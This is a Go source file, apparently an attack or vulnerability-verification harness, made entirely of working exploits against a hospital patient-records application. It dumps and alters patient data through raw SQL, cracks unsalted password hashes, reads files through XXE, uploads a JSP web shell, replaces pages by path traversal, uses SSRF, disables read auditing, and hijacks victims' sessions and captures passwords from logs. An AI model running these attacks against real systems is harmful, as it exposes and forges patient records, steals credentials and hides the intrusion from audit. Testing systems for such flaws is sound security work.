package attack

import (
	"bytes"
	"context"
	"crypto/sha1" //nolint:gosec // what the application uses
	"encoding/hex"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
)

func has(text string) func(Answer) bool {
	return func(a Answer) bool { return strings.Contains(a.Body, text) }
}

func isPDF(a Answer) bool { return strings.HasPrefix(a.Body, "%PDF-") }

func nativeSQL(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Form(ctx, "/QueryRunner", "nativequery", "select hospno, surname from core_patient")
	return attempt(a, err, has(t.Patient), "every patient of the hospital")
}

func objectQuery(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Form(ctx, "/QueryRunner", "query", "from Patient p where p.hospno = '"+t.Patient+"'")
	return attempt(a, err, has(t.Patient), "the patient's row")
}

func sqlUpdate(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	if _, err := c.Form(ctx, "/QueryRunner", "nativequery", "update core_patient set surname = 'Forgedby' where hospno = '"+t.Patient+"'"); err != nil {
		return Result{}, err
	}
	staff, err := t.signedIn(ctx)
	if err != nil {
		return Result{}, err
	}
	a, err := staff.OpenPatient(ctx, t.Patient)
	return attempt(a, err, func(a Answer) bool { return strings.Contains(a.Root.First("patient").Text, "FORGEDBY") }, "the patient has another name")
}

func schemaBrowser(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Get(ctx, "/QueryServlet?action=listTables")
	return attempt(a, err, has("core_patient"), "the tables")
}

func reportStore(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	if _, err := c.Form(ctx, "/ReportServlet", "action", "putFullReport", "name", "Patient Summary", "report", "<report forged='yes'/>"); err != nil {
		return Result{}, err
	}
	a, err := c.Get(ctx, "/ReportServlet?action=getReport&name=Patient+Summary")
	return attempt(a, err, has("forged"), "the template was replaced")
}

func reportBuilder(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Form(ctx, "/ReportBuilder", "template", "Patient Summary", "Patient_id", t.PatientID)
	return attempt(a, err, func(a Answer) bool { return isPDF(a) && strings.Contains(a.Body, t.Patient) }, "the patient's summary")
}

func serverSideRequest(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Form(ctx, "/PrintReport", "urlServer", t.Inside)
	return attempt(a, err, has(t.Hidden), "what the internal server says")
}

// unsaltedHash reads the hashes and tries a short list of words, which is all it
// takes without a salt.
func unsaltedHash(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	a, err := c.Form(ctx, "/QueryRunner", "nativequery", "select username, c_passwo from core_appuser")
	if err != nil {
		return Result{}, err
	}
	for _, word := range []string{"password", "letmein", "icws", "welcome"} {
		sum := sha1.Sum([]byte(word)) //nolint:gosec // what the application uses
		for _, r := range a.Root.All("row") {
			if len(r.Nodes) != 2 || r.Nodes[1].Text != hex.EncodeToString(sum[:]) {
				continue
			}
			if _, err := t.client().Login(ctx, r.Nodes[0].Text, word, ""); err == nil {
				return Result{true, "signed in as " + r.Nodes[0].Text}, nil
			}
		}
	}
	return Result{}, nil
}

// file posts one file, after the parameters of the upload if there are any.
func file(ctx context.Context, c *Client, path, name, parameters, content string) (Answer, error) {
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	if parameters != "" {
		if err := form.WriteField("ims_file_upload_params", parameters); err != nil {
			return Answer{}, fmt.Errorf("write form: %w", err)
		}
	}
	part, err := form.CreatePart(textproto.MIMEHeader{
		"Content-Disposition": {`form-data; name="a1050"; filename="` + name + `"`}, "Content-Type": {"application/octet-stream"},
	})
	if err != nil {
		return Answer{}, fmt.Errorf("write form: %w", err)
	}
	if _, err := part.Write([]byte(content)); err != nil {
		return Answer{}, fmt.Errorf("write form: %w", err)
	}
	if err := form.Close(); err != nil {
		return Answer{}, fmt.Errorf("write form: %w", err)
	}
	return c.Send(ctx, http.MethodPost, path, form.FormDataContentType(), body.Bytes())
}

// Upload uploads a file as the user interface does.
func (c *Client) Upload(ctx context.Context, name, content string) (Answer, error) {
	return file(ctx, c, "/Upload", name, "", content)
}

func uploadEntity(ctx context.Context, t *Target) (Result, error) {
	parameters := `<!DOCTYPE p [<!ENTITY x SYSTEM "` + t.File + `">]><params><type>&x;</type></params>`
	a, err := file(ctx, t.client(), "/Upload", "x.pdf", parameters, "x")
	return attempt(a, err, has(t.Content), "the file's content")
}

func uploadProgram(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	if _, err := file(ctx, c, "/Upload", "shell.jsp", "", "<% program %>"); err != nil {
		return Result{}, err
	}
	a, err := c.Get(ctx, "/uploads/shell.jsp")
	return attempt(a, err, has("program"), "the program is served")
}

func uploadTraversal(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	if _, err := file(ctx, c, "/PDFUpload", "../full-screen.html", "", "<p>forged</p>"); err != nil {
		return Result{}, err
	}
	a, err := c.Get(ctx, "/full-screen.html")
	return attempt(a, err, has("forged"), "the start page was replaced")
}

func axisStop(ctx context.Context, t *Target) (Result, error) {
	a, err := t.client().Get(ctx, "/servlet/AdminServlet?cmd=stop")
	return attempt(a, err, has("is stopped"), "the services are stopped")
}

func axisUndeploy(ctx context.Context, t *Target) (Result, error) {
	c := t.client()
	if _, err := c.SOAP(ctx, "AdminService", "undeployment", "service", "MAXIMSWebService"); err != nil {
		return Result{}, err
	}
	a, err := c.SOAP(ctx, "MAXIMSWebService", "login", "username", t.User, "password", t.Password)
	return attempt(a, err, has("could not find a target service"), "the service is gone")
}

// soapUser is the ordinary user, signed in by SOAP. Whoever refuses that refuses
// the attack.
func soapUser(ctx context.Context, t *Target, service string) (*Client, bool, error) {
	c := t.client()
	a, err := c.SOAP(ctx, service, "login", "username", t.User, "password", t.Password)
	return c, err == nil && a.Root.First("loginReturn").Text == "true", err
}

func saveFlag(ctx context.Context, t *Target) (Result, error) {
	c, ok, err := soapUser(ctx, t, "MAXIMSWebService")
	if !ok {
		return Result{}, err
	}
	a, err := c.SOAP(ctx, "MAXIMSWebService", "saveFlag", "flagName", "READ_AUDIT_ENABLED", "flagValue", "FALSE")
	return attempt(a, err, has("<saveFlagReturn>true"), "the flag was saved")
}

func sessionList(ctx context.Context, t *Target) (Result, error) {
	victim := t.browser(t.Victim)
	if _, err := victim.Login(ctx, t.Victim, t.Password, ""); err != nil {
		return Result{}, err
	}
	c, ok, err := soapUser(ctx, t, "RemoteSessionAdminWebService")
	if !ok {
		return Result{}, err
	}
	a, err := c.SOAP(ctx, "RemoteSessionAdminWebService", "listSessionsWS")
	if err != nil {
		return Result{}, err
	}
	for _, s := range a.Root.All("session") {
		if s.Attr("user") == t.Victim {
			return takeOver(ctx, t, s.Attr("id"))
		}
	}
	return Result{}, nil
}

// takeOver uses a session that is the victim's.
func takeOver(ctx context.Context, t *Target, session string) (Result, error) {
	thief := t.client()
	if err := thief.Plant(session); err != nil {
		return Result{}, err
	}
	a, err := thief.Events(ctx, `<queryString/>`)
	return attempt(a, err, func(a Answer) bool { return strings.Contains(a.Title(), t.Victim) }, "the victim's screen")
}

func sessionTerminate(ctx context.Context, t *Target) (Result, error) {
	victim := t.browser(t.Victim)
	if _, err := victim.Login(ctx, t.Victim, t.Password, ""); err != nil {
		return Result{}, err
	}
	c, ok, err := soapUser(ctx, t, "RemoteSessionAdminWebService")
	if !ok {
		return Result{}, err
	}
	a, err := c.SOAP(ctx, "RemoteSessionAdminWebService", "listSessionsWS")
	if err != nil {
		return Result{}, err
	}
	for _, s := range a.Root.All("session") {
		if s.Attr("user") == t.Victim {
			if _, err := c.SOAP(ctx, "RemoteSessionAdminWebService", "terminateSessionWS", "sessionID", s.Attr("id")); err != nil {
				return Result{}, err
			}
		}
	}
	a, err = victim.Events(ctx, `<topbutton id="-1"/>`)
	return attempt(a, err, func(a Answer) bool { return strings.Contains(a.Message(), "expired") }, "the victim was thrown out")
}

func soapRoam(ctx context.Context, t *Target) (Result, error) {
	c, ok, err := soapUser(ctx, t, "MAXIMSWebService")
	if !ok {
		return Result{}, err
	}
	a, err := c.SOAP(ctx, "MAXIMSWebService", "getPatientById", "in0", t.PatientID)
	return attempt(a, err, has(t.Surname), "the patient's demographics")
}

// logSwitch turns the log of requests on by SOAP; the next to sign in is in it.
func logSwitch(ctx context.Context, t *Target) (Result, error) {
	c, ok, err := soapUser(ctx, t, "RemoteSessionAdminWebService")
	if !ok {
		return Result{}, err
	}
	if _, err := c.SOAP(ctx, "RemoteSessionAdminWebService", "toggleLoggingWS"); err != nil {
		return Result{}, err
	}
	if _, err := t.browser(t.Victim).Login(ctx, t.Victim, t.Password, ""); err != nil {
		return Result{}, err
	}
	return Result{strings.Contains(t.ServerLog(), t.Password), "the victim's password in the log"}, nil
}
